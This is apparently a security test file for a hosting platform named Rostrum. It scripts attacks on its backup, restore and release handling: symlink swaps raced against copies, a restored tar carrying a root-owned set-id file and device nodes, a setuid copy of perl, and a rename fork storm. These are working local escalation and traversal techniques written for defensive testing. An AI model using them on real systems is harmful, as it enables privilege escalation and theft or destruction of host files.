import { setTimeout as sleep } from "node:timers/promises";
import { tarOf } from "../support/archives";
import type { Arena } from "../support/arena";
import { type Attack, program } from "../support/attack";

const setId = "A1 · set-id files by root";
const liveCopy = "A2 · live copies";
const links = "A4 · backup and restore through links";
const releases = "A5 · releases swapped";

const volume = { volumes: ["data:/data"], environment: { DATA: "{data}" } };
const planted = () => tarOf([{ name: "planted", text: "planted by a restore\n" }]);

/** Copies again and again while something is swapped inside. */
async function copyRepeatedly(arena: Arena, attacker: string): Promise<void> {
  for (let count = 0; count < 4; count += 1) await arena.copyOut(attacker, "data");
}

/** Tells of every set-id file, device and pipe that the cloud itself put there. */
function reportSpecials(arena: Arena): void {
  for (const special of arena.field.specialsOf(arena.environmentIds)) arena.reach(special);
}

/** Attacks on what Rostrum copies, unpacks and removes: by links, swaps and strange entries. */
export const copyAttacks: Attack[] = [
  {
    id: "set-id-seed",
    of: setId,
    aim: "a root-owned set-id file in its volume, by a folder that a release brings",
    async run(arena) {
      const seed = Object.fromEntries(Array.from({ length: 1_500 }, (_, at) => [`app/seed/f${at}`, "x"]));
      const body = `
        const next = dirname(process.cwd()) + "/2/seed/own";
        const there = join(process.env.SEED, "own");
        const until = Date.now() + 9_000;
        say("HOSTILE DONE");
        while (Date.now() < until) {
          try { if (!fs.existsSync(next)) { fs.copyFileSync("/usr/bin/perl", next); fs.chmodSync(next, 0o6755); say("laid"); } } catch {}
          try { const facts = fs.statSync(there); if (facts.uid === 0 || facts.uid !== process.getuid()) { reach("a set-id file of user " + facts.uid); say(cp.spawnSync(there, [join(here, "kit.pl"), "ids", "real"], { encoding: "utf8" }).stdout); } } catch {}
          await sleep(1);
        }`;
      const spec = { volumes: ["data:/data", "seed:/seed"], environment: { SEED: "{volume:seed}" } };
      const attacker = await arena.deploy({ body, spec: { ...spec, stop_grace_period: "2s" } });
      await arena.deploy({ body, spec, files: seed });
      await arena.untilDone(attacker);
      // One that it made itself gains it nothing; one of root's is what this is about.
      const specials = arena.field.specialsOf(arena.environmentIds);
      for (const special of specials.filter((text) => text.includes("of user 0"))) arena.reach(special);
    },
  },
  {
    id: "set-id-restore",
    of: setId,
    aim: "set-id files, devices and pipes by a restored backup",
    async run(arena) {
      const attacker = await arena.deploy({ body: "", spec: volume });
      const tar = await tarOf([
        { name: "own", mode: 0o6755, uid: 0, gid: 0, text: "#!/bin/sh\nid\n" },
        { name: "folder/", mode: 0o7777, type: "directory" },
      ]);
      await arena.copyIn(attacker, "data", tar);
      reportSpecials(arena);
      for (const type of ["character-device", "block-device", "fifo", "link"] as const) {
        const entry = {
          name: "special",
          type,
          mode: 0o666,
          devmajor: 1,
          devminor: 1,
          linkname: "/etc/hostname",
        };
        await arena.copyIn(attacker, "data", await tarOf([entry]));
        reportSpecials(arena);
      }
    },
  },
  program(
    {
      id: "copy-swapped-folder",
      of: liveCopy,
      aim: "a folder of the host, swapped in while a backup is taken",
    },
    `const data = process.env.DATA; fs.mkdirSync(data + "/sub"); fs.writeFileSync(data + "/sub/secret.key", "mine"); fs.symlinkSync(T.dataDir, data + "/evil");
     cp.spawn("/usr/bin/perl", [join(here, "kit.pl"), "exchange", data + "/sub", data + "/evil", "15"], { detached: true, stdio: "ignore" }).unref();`,
    { spec: volume, after: copyRepeatedly },
  ),
  program(
    { id: "copy-swapped-file", of: liveCopy, aim: "a file of the host, swapped in while a backup is taken" },
    `const data = process.env.DATA; fs.writeFileSync(data + "/file", "mine"); fs.symlinkSync(T.secretKey, data + "/evil");
     cp.spawn("/usr/bin/perl", [join(here, "kit.pl"), "exchange", data + "/file", data + "/evil", "15"], { detached: true, stdio: "ignore" }).unref();`,
    { spec: volume, after: copyRepeatedly },
  ),
  program(
    { id: "copy-fork-storm", of: liveCopy, aim: "running while its processes are paused for a copy" },
    `const data = process.env.DATA; fs.mkdirSync(data + "/sub"); fs.writeFileSync(data + "/sub/secret.key", "mine"); fs.symlinkSync(T.dataDir, data + "/evil");
     const script = 'my $u = time + 12; while (time < $u) { my $p = fork // next; if ($p == 0) { require POSIX; rename "$ARGV[0]/sub", "$ARGV[0]/aside"; rename "$ARGV[0]/evil", "$ARGV[0]/sub"; rename "$ARGV[0]/sub", "$ARGV[0]/evil"; rename "$ARGV[0]/aside", "$ARGV[0]/sub"; POSIX::_exit(0) } waitpid $p, 0 }';
     for (let count = 0; count < 2; count += 1) cp.spawn("/usr/bin/perl", ["-e", script, data], { detached: true, stdio: "ignore" }).unref();`,
    { spec: volume, after: copyRepeatedly },
  ),
  program(
    { id: "copy-through-link", of: links, aim: "a folder of the host as a backup of its own" },
    `fs.symlinkSync(T.dataDir, "out"); fs.symlinkSync(T.base, "parent"); fs.symlinkSync(T.victim.directory, "other"); fs.symlinkSync(dirname(T.homeFile), "home");`,
    {
      after: async (arena, attacker) => {
        for (const path of [
          "out",
          "parent/data",
          "other",
          "other/volumes",
          "home",
          "../../..",
          "out/../data",
        ]) {
          await arena.copyOut(attacker, path);
        }
      },
    },
  ),
  program(
    { id: "restore-through-link", of: links, aim: "replacing a folder of the host by a restore" },
    `fs.symlinkSync(T.precious, "out"); fs.symlinkSync(T.base, "parent");`,
    {
      after: async (arena, attacker) => {
        for (const path of ["out", "parent/precious", "parent/precious/inner"]) {
          await arena.copyIn(attacker, path, await planted());
        }
      },
    },
  ),
  program(
    { id: "volume-replaced-by-link", of: links, aim: "its volume as a link to a folder of the host" },
    `const data = process.env.DATA; const aside = data + ".aside";
     attempt("", () => { fs.renameSync(data, aside); fs.symlinkSync(T.dataDir, data); say("the volume is a link"); });
     attempt("", () => { const parent = dirname(data); fs.renameSync(parent, parent + ".aside"); fs.mkdirSync(parent); fs.symlinkSync(T.precious, data); say("its parent is another"); });`,
    {
      spec: volume,
      after: async (arena, attacker) => {
        await arena.copyOut(attacker, "data");
        await arena.copyIn(attacker, "data", await planted());
        await arena.copyOut(attacker, "data");
      },
    },
  ),
  program(
    { id: "restore-swapped", of: links, aim: "writing elsewhere while a restore is unpacked" },
    `const data = process.env.DATA; const names = [dirname(data) + "/.data.incoming", dirname(data) + "/.data.ready", dirname(data) + "/.data.old"];
     say("HOSTILE DONE"); const until = Date.now() + 6_000;
     while (Date.now() < until) { for (const name of names) { try { if (fs.lstatSync(name).isDirectory()) { fs.renameSync(name, name + "-" + Date.now()); fs.symlinkSync(T.precious, name); say("swapped " + name); } } catch {} } await sleep(0); }`,
    {
      spec: volume,
      after: async (arena, attacker) => {
        const many = Array.from({ length: 200 }, (_, at) => ({
          name: `sub${at % 20}/planted${at}`,
          text: "x",
        }));
        for (let count = 0; count < 2; count += 1) await arena.copyIn(attacker, "data", await tarOf(many));
      },
    },
  ),
  {
    id: "release-swapped",
    of: releases,
    aim: "files of the host removed together with an old release",
    async run(arena) {
      const body = `
        const releases = dirname(process.cwd());
        for (const name of ["1", "2", "3"]) {
          try { fs.mkdirSync(releases + "/" + name + "/sub", { recursive: true }); for (let at = 0; at < 200; at += 1) fs.writeFileSync(releases + "/" + name + "/sub/f" + at, ""); fs.symlinkSync(T.precious, releases + "/" + name + "/evil"); } catch {}
          cp.spawn("/usr/bin/perl", [join(here, "kit.pl"), "exchange", releases + "/" + name + "/sub", releases + "/" + name + "/evil", "12"], { detached: true, stdio: "ignore" }).unref();
        }`;
      const attacker = await arena.deploy({ body });
      await arena.untilDone(attacker);
      for (let count = 0; count < 2; count += 1) {
        await arena.deploy({ body });
        await sleep(200);
      }
    },
  },
  program(
    {
      id: "destroy-swapped",
      of: releases,
      aim: "files of the host removed when its environment is destroyed",
    },
    `fs.symlinkSync(T.precious, "evil"); fs.mkdirSync("sub"); for (let at = 0; at < 500; at += 1) fs.writeFileSync("sub/f" + at, "");
     attempt("", () => { const release = process.cwd(); fs.renameSync(release, release + ".aside"); fs.symlinkSync(T.precious, release); });
     process.on("SIGTERM", () => {});
     cp.spawn("/usr/bin/perl", [join(here, "kit.pl"), "exchange", process.cwd() + "/sub", process.cwd() + "/evil", "20"], { detached: true, stdio: "ignore", env: {} }).unref();`,
  ),
];
